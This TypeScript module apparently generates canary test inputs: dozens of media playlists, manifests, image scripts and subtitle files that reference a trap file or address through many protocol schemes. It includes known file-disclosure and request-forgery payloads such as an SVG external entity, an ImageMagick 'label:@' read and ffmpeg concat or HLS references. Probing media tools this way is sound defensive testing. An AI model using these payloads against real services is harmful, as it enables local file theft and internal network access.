import { basename } from 'node:path';
import type { Trap } from './trap.ts';

/** A text that some program takes for an order to open something else. */
export interface Disguise {
  readonly what: string;
  readonly text: string;
}

const hls = (...lines: readonly string[]): string =>
  [
    '#EXTM3U',
    '#EXT-X-VERSION:3',
    '#EXT-X-TARGETDURATION:10',
    '#EXT-X-MEDIA-SEQUENCE:0',
    ...lines,
    '#EXT-X-ENDLIST',
    '',
  ].join('\n');
const segment = (uri: string): string => hls('#EXTINF:10.0,', uri);

/** Playlists, scripts and documents that name the trap's files and its address, in every way that programs understand. */
export const disguises = ({ text, film, address }: Trap): readonly Disguise[] => {
  const near = basename(film);
  const hex = Buffer.from(film).toString('hex');
  const playlists = [
    film,
    near,
    `./${near}`,
    `file:${film}`,
    `file://${film}`,
    `${address}/x.ts`,
    `concat:${film}|${film}`,
    `concat:${address}/head.m3u8|file://${text}`,
    `subfile,,start,0,end,0,,:${film}`,
    `crypto:${film}`,
    `crypto+file:${film}`,
    `data:text/plain;base64,${Buffer.from(film).toString('base64')}`,
    `async:${film}`,
    `cache:${film}`,
    `md5:${film}`,
    `tcp://${address.slice(7)}`,
    `udp://${address.slice(7)}`,
    `rtmp://${address.slice(7)}/x`,
    `rtp://${address.slice(7)}`,
    `ftp://${address.slice(7)}/x`,
    `gopher://${address.slice(7)}/x`,
    `hls+${address}/x.m3u8`,
    `mmsh://${address.slice(7)}/x`,
    `icecast://${address.slice(7)}/x`,
    `tee:${film}`,
    `unix:${film}`,
    `lavfi:movie=${film}`,
    `movie=${film}`,
  ].map((uri) => ({ what: `an HLS playlist with ${uri.replace(hex, '')}`, text: segment(uri) }));
  return [
    ...playlists,
    {
      what: 'an HLS playlist with a key elsewhere',
      text: hls(`#EXT-X-KEY:METHOD=AES-128,URI="${address}/key"`, '#EXTINF:10.0,', film),
    },
    {
      what: 'an HLS playlist with a head elsewhere',
      text: hls(`#EXT-X-MAP:URI="${address}/init.mp4"`, '#EXTINF:10.0,', film),
    },
    {
      what: 'a master playlist',
      text: `#EXTM3U\n#EXT-X-MEDIA:TYPE=SUBTITLES,GROUP-ID="s",NAME="s",URI="${address}/s.m3u8"\n#EXT-X-STREAM-INF:BANDWIDTH=1,SUBTITLES="s"\n${address}/v.m3u8\n`,
    },
    { what: 'an HLS playlist after a byte order mark', text: `\ufeff${segment(film)}` },
    { what: 'an HLS playlist of an old Mac', text: segment(film).replaceAll('\n', '\r') },
    {
      what: 'a DASH manifest',
      text: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${address}/x.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    },
    {
      what: 'a DASH manifest with a file',
      text: `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet><Representation id="1"><BaseURL>${film}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    },
    { what: 'a concat script', text: `ffconcat version 1.0\nfile '${film}'\n` },
    { what: 'a concat script with a neighbour', text: `ffconcat version 1.0\nfile '${near}'\nduration 1\n` },
    { what: 'a concat script with an address', text: `ffconcat version 1.0\nfile '${address}/x.mp4'\n` },
    { what: 'a concat script without a head', text: `file '${film}'\nfile '${film}'\n` },
    {
      what: 'an SVG picture with another in it',
      text: `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="96" height="64"><image xlink:href="${address}/x.png" width="9" height="9"/><image xlink:href="file://${film}" width="9" height="9"/></svg>`,
    },
    {
      what: 'an SVG picture with an entity',
      text: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file://${text}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    },
    {
      what: 'an MVG picture',
      text: `push graphic-context\nviewbox 0 0 96 64\nimage over 0,0 0,0 '${address}/x.png'\nimage over 0,0 0,0 'label:@${text}'\npop graphic-context\n`,
    },
    {
      what: 'an MSL script',
      text: `<?xml version="1.0"?><image><read filename="${address}/x.png"/><write filename="${film}"/></image>`,
    },
    {
      what: 'an XSPF playlist',
      text: `<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>${address}/x</location></track></trackList></playlist>`,
    },
    { what: 'a PLS playlist', text: `[playlist]\nFile1=${address}/x\nNumberOfEntries=1\n` },
    { what: 'an ASX playlist', text: `<asx version="3.0"><entry><ref href="${address}/x"/></entry></asx>` },
    { what: 'a SMIL presentation', text: `<smil><body><video src="${address}/x"/></body></smil>` },
    {
      what: 'a session description',
      text: `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${address.split(':').at(-1)} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    },
    { what: 'a reference of QuickTime', text: `RTSPtext\r\nrtsp://${address.slice(7)}/x\r\n` },
    { what: 'a list of addresses', text: `${address}/x.mp4\n` },
    { what: 'metadata of ffmpeg', text: `;FFMETADATA1\ntitle=${film}\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=1\n` },
    { what: 'a cue sheet', text: `FILE "${film}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n` },
    { what: 'a script of AviSynth', text: `DirectShowSource("${film}")\n` },
    { what: 'a script of VapourSynth', text: `import vapoursynth as vs\nopen("${text}")\n` },
    {
      what: 'a MLT project',
      text: `<mlt><producer id="p"><property name="resource">${film}</property></producer></mlt>`,
    },
    { what: 'subtitles of MPL2', text: `[0][10]${film}\n` },
    {
      what: 'a VobSub index',
      text: `# VobSub index file, v7 (do not modify this line!)\nsize: 96x64\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n`,
    },
    {
      what: 'captions of TED',
      text: `{"captions":[{"duration":1000,"content":"${film}","startOfParagraph":true,"startTime":0}]}`,
    },
    { what: 'a filter graph', text: `movie=${film}[out0]\n` },
    { what: 'a preset of ffmpeg', text: `vcodec=libx264\ni=${film}\n` },
  ];
};
